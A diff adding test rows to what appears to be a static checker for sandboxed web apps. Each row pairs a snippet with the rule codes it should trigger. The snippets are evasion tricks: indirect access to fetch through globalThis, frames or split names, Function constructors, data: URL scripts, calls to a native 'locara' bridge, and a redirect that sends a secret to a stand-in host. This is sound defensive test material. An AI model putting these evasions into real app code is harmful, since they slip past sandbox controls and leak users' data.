@@ -93,6 +93,76 @@ const scripts: readonly Row[] = [
   [{ "a.tsx": `export const A = () => <img src="https://a.example/x.png" />;` }, ["LOC4033:1"], "JSX loads it"],
   [{ "a.tsx": `export const A = () => <a href="https://a.example">x</a>;` }, [], "a link loads nothing by itself"],
   [{ "a.tsx": `export const A = () => <a href="javascript:go()">x</a>;` }, ["LOC4039:1"], "an address can be code"],
+  [`Reflect.get(window, "fetch")("https://a.example");`, ["LOC4010:1"], "whoever gets the window can take anything"],
+  [
+    `export const all = { ...globalThis };\nObject.values(self);\nlet w = window;`,
+    ["LOC4010:1", "LOC4010:2", "LOC4010:3"],
+    "the window is handed on",
+  ],
+  [
+    `if (typeof window === "undefined" || event.source === window || window !== top) done();`,
+    [],
+    "looking at the window takes nothing from it",
+  ],
+  [`const { ["fet" + "ch"]: get } = globalThis;\nget("https://a.example");`, ["LOC4020:1"], "a constant key is a name"],
+  [`frame.contentWindow.fetch("https://a.example");`, ["LOC4020:1"], "a frame has a window of its own"],
+  [`button.ownerDocument.defaultView.fetch("https://a.example");`, ["LOC4020:1"], "a document leads to its window"],
+  [
+    `(() => 0).constructor("return 1")();\nnew Object.constructor.constructor("return 1");`,
+    ["LOC4028:1", "LOC4028:2"],
+    "every function leads to the one that makes code of text",
+  ],
+  [`class A { copy() { return new this.constructor(); } }`, [], "a class makes another of its own"],
+  [
+    `new Worker("data:text/javascript,go()"); await import("data:text/javascript,go()"); import "data:text/javascript,1";`,
+    ["LOC4035:1", "LOC4035:1", "LOC4035:1"],
+    "text in an address is code that is no file",
+  ],
+  [
+    `locara.start("clipboard.readText", {}); window.locara.start("clipboard.readText", {});`,
+    ["LOC4040:1", "LOC4040:1"],
+    "the bridge takes any command",
+  ],
+  [`const { locara: bridge } = globalThis;`, ["LOC4040:1"], "whoever takes the bridge can call it"],
+  [
+    `import { call } from "@locara/runtime/sdk";\nexport { stream } from "@locara/runtime/sdk";`,
+    ["LOC4040:1", "LOC4040:2"],
+    "below the SDK every command is a text",
+  ],
+  [`import type { Stream } from "@locara/runtime/sdk";`, [], "a type calls nothing"],
+  [
+    `location.href = "https://a.example/?" + secret;\nlocation.assign(address);\nwindow.location = "//a.example";`,
+    ["LOC4041:1", "LOC4041:2", "LOC4041:3"],
+    "an address that the page goes to carries what stands in it",
+  ],
+  [`location.hash = "#two"; location.replace("./other.html"); location.reload();`, [], "it stays within the app"],
+  [
+    `el.innerHTML = "<img src='https://a.example/x'>";\nel.insertAdjacentHTML("beforeend", "<p onclick='go()'>");`,
+    ["LOC4033:1", "LOC4032:2"],
+    "markup in a text is markup",
+  ],
+  [
+    { "a.tsx": `export const A = () => <p dangerouslySetInnerHTML={{ __html: "<script>go()</script>" }} />;` },
+    ["LOC4031:1"],
+    "markup in a text is markup",
+  ],
+  [`el.innerHTML = "<b>bold</b>";`, [], "nothing is loaded, and no code"],
+  [
+    `el.setAttribute("src", "https://a.example/x");\nel.setAttribute("onclick", "go()");`,
+    ["LOC4033:1", "LOC4032:2"],
+    "attributes have two ways in",
+  ],
+  [
+    { "a.tsx": `const more = { src: "https://a.example/x" };\nexport const A = () => <img {...more} />;` },
+    ["LOC4033:2"],
+    "a spread has attributes too",
+  ],
+  [`createElement("img", { src: "https://a.example/x" });`, ["LOC4033:1"], "JSX without its syntax"],
+  [
+    { "src/a.mts": `fetch("https://a.example");`, "src/b.cjs": `fetch("https://a.example");` },
+    ["LOC4020:1", "LOC4020:1"],
+    "every kind of script",
+  ],
 ];
 
 const markup: readonly Row[] = [
@@ -102,6 +172,11 @@ const markup: readonly Row[] = [
     "the app's own files",
   ],
   [{ "index.html": "<p>\n<script>go()</script>" }, ["LOC4031:2"], "a script stands in the page"],
+  [
+    { "index.html": `<script src="data:text/javascript,go()"></script>` },
+    ["LOC4031:1"],
+    "its text stands in the address",
+  ],
   [{ "index.html": `<script type="application/json">{"a": 1}</script>` }, [], "data is no script"],
   [{ "index.html": `<!-- <script>go()</script> <img src="https://a.example/x"> -->` }, [], "a comment is nothing"],
   [{ "index.html": `<BUTTON ONCLICK=go()>x</BUTTON>` }, ["LOC4032:1"], "names of attributes have no case"],
@@ -119,8 +194,10 @@ const markup: readonly Row[] = [
   [{ "index.html": `<a href="https://a.example">x</a>` }, [], "a link loads nothing by itself"],
   [{ "index.html": `<a href=" java\nscript:go()">x</a>` }, ["LOC4039:1"], "browsers skip the line break"],
   [
-    { "index.html": `<meta http-equiv="refresh" content="0; url=https://a.example">` },
-    ["LOC4033:1"],
+    {
+      "index.html": `<meta http-equiv="refresh" content="0; url=https://a.example">\n<meta http-equiv=refresh content="0 //a.example">`,
+    },
+    ["LOC4033:1", "LOC4033:2"],
     "the page leaves by itself",
   ],
   [{ "index.html": `<iframe srcdoc="<script>go()</script>"></iframe>` }, ["LOC4031:1"], "a page within the page"],
